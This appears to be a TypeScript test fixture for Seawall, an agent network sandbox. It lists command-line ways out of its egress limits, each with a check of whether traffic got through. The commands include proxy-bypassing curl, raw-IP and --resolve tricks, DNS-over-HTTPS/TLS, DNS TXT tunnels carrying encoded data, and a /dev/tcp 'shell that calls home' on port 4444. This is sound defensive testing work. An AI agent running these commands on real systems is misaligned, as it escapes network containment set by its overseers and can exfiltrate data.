// Ways out that an agent's command can try. Each of them works on a host without Seawall, which the tests show first.
import type { Seen } from "./internet/seen.ts";
import {
  LISTED,
  LISTED_4,
  NEIGHBOUR,
  OTHER_RESOLVER,
  TUNNEL,
  UNLISTED,
  UNLISTED_4,
  UNLISTED_6,
} from "./internet/zone.ts";
import type { Watched } from "./world.ts";

export type Attack = {
  readonly name: string;
  /** What it cannot do without: an answer about a name, or only an address that it knows. */
  readonly needs: "name" | "address";
  /** What the agent runs, for bash. */
  readonly script: string;
  /** Whether anything of it reached the internet. */
  readonly arrived: (watched: Watched<unknown>) => boolean;
};

const TXT = 16;
const DOT_PORT = 853;
const OTHER_PORT = 8443;

export const ATTACKS: readonly Attack[] = [
  {
    name: "curl of a name that is not listed",
    needs: "name",
    script: `curl -sS https://${UNLISTED}/`,
    arrived: reaches(UNLISTED_4, UNLISTED_6),
  },
  {
    name: "curl --noproxy '*' of a name that is not listed",
    needs: "name",
    script: `curl -sS --noproxy '*' https://${UNLISTED}/`,
    arrived: reaches(UNLISTED_4, UNLISTED_6),
  },
  {
    name: "curl by plain HTTP of a name that is not listed",
    needs: "name",
    script: `curl -sS --noproxy '*' http://${UNLISTED}/`,
    arrived: reaches(UNLISTED_4, UNLISTED_6),
  },
  {
    name: "fetch of node, which no proxy setting reaches",
    needs: "name",
    script: `node -e 'fetch("https://${UNLISTED}/").then((r) => r.text()).then(console.log, (e) => console.log(e.cause))'`,
    arrived: reaches(UNLISTED_4, UNLISTED_6),
  },
  {
    name: "a raw IPv4 address",
    needs: "address",
    script: `curl -sS --noproxy '*' https://${UNLISTED_4}/`,
    arrived: reaches(UNLISTED_4),
  },
  {
    name: "a raw IPv6 address",
    needs: "address",
    script: `curl -sS --noproxy '*' 'https://[${UNLISTED_6}]/'`,
    arrived: reaches(UNLISTED_6),
  },
  {
    name: "a listed name said to an address that is not its own",
    needs: "address",
    script: `curl -sS --noproxy '*' --resolve ${LISTED}:443:${UNLISTED_4} https://${LISTED}/`,
    arrived: reaches(UNLISTED_4),
  },
  {
    name: "another name at a listed name's own address",
    needs: "address",
    script: `curl -sS -o /dev/null https://${LISTED}/
curl -sS --noproxy '*' --resolve ${NEIGHBOUR}:443:${LISTED_4} https://${NEIGHBOUR}/`,
    arrived: sees((one) => one.kind === "request" && one.sni === NEIGHBOUR),
  },
  {
    name: "another port at a listed name's own address",
    needs: "address",
    script: `curl -sS -o /dev/null https://${LISTED}/
exec 3<>/dev/tcp/${LISTED_4}/${OTHER_PORT}`,
    arrived: sees((one) => one.kind === "connection" && one.port === OTHER_PORT),
  },
  {
    name: "DNS over HTTPS at a resolver's address",
    needs: "address",
    script: `curl -sS --noproxy '*' 'https://${OTHER_RESOLVER}/dns-query?dns=${question(`doh.${TUNNEL}`).toString("base64url")}' | od -c | tail -3`,
    arrived: reaches(OTHER_RESOLVER),
  },
  {
    name: "DNS over TLS",
    needs: "address",
    script: `exec 3<>/dev/tcp/${OTHER_RESOLVER}/${DOT_PORT}`,
    arrived: reaches(OTHER_RESOLVER),
  },
  {
    name: "a tunnel of TXT questions through the host's own resolver",
    needs: "name",
    script: `node -e 'require("dns").resolveTxt("c2VjcmV0.${TUNNEL}", (...said) => console.log(...said))'`,
    arrived: tunnels(),
  },
  {
    name: "a tunnel of TXT questions to a resolver of its own choice",
    needs: "address",
    script: `node -e 'const { Resolver } = require("dns"); const own = new Resolver(); own.setServers(["${OTHER_RESOLVER}"]);
own.resolveTxt("b3RoZXI.${TUNNEL}", (...said) => console.log(...said))'`,
    arrived: tunnels(),
  },
  {
    name: "a tunnel of TXT questions over TCP",
    needs: "address",
    script: `exec 3<>/dev/tcp/${OTHER_RESOLVER}/53
printf '${framed(question(`tcp.${TUNNEL}`))}' >&3
timeout 2 head -c 12 <&3 | od -c`,
    arrived: tunnels(),
  },
  {
    name: "a tunnel of names that are only looked up",
    needs: "name",
    script: `getent ahosts bG9va3Vw.${TUNNEL}`,
    arrived: tunnels(),
  },
  {
    name: "UDP on port 443, as QUIC is",
    needs: "address",
    script: `echo hello >/dev/udp/${UNLISTED_4}/443`,
    arrived: reaches(UNLISTED_4),
  },
  {
    name: "a shell that calls home",
    needs: "address",
    script: `exec 3<>/dev/tcp/${UNLISTED_4}/4444`,
    arrived: reaches(UNLISTED_4),
  },
];

function reaches(...addresses: readonly string[]): Attack["arrived"] {
  return ({ packetsTo }) => addresses.some((address) => packetsTo(address) > 0);
}

function sees(what: (one: Seen) => boolean): Attack["arrived"] {
  return ({ seen }) => seen.some(what);
}

/** Zero packets upstream: not even the question, whoever is asked. */
function tunnels(): Attack["arrived"] {
  return sees((one) => one.kind === "dns" && one.name.endsWith(TUNNEL));
}

/** A TXT question, RFC 1035 4.1. */
function question(name: string): Buffer {
  const header = Buffer.from([0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  const labels = name
    .split(".")
    .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
  return Buffer.concat([header, ...labels, Buffer.from([0, 0, TXT, 0, 1])]);
}

/** With its length before it, as DNS over TCP wants it, for printf(1). */
function framed(message: Buffer): string {
  const length = Buffer.from([message.length >> 8, message.length & 255]);
  return Buffer.concat([length, message]).toString("hex").replace(/../g, "\\x$&");
}
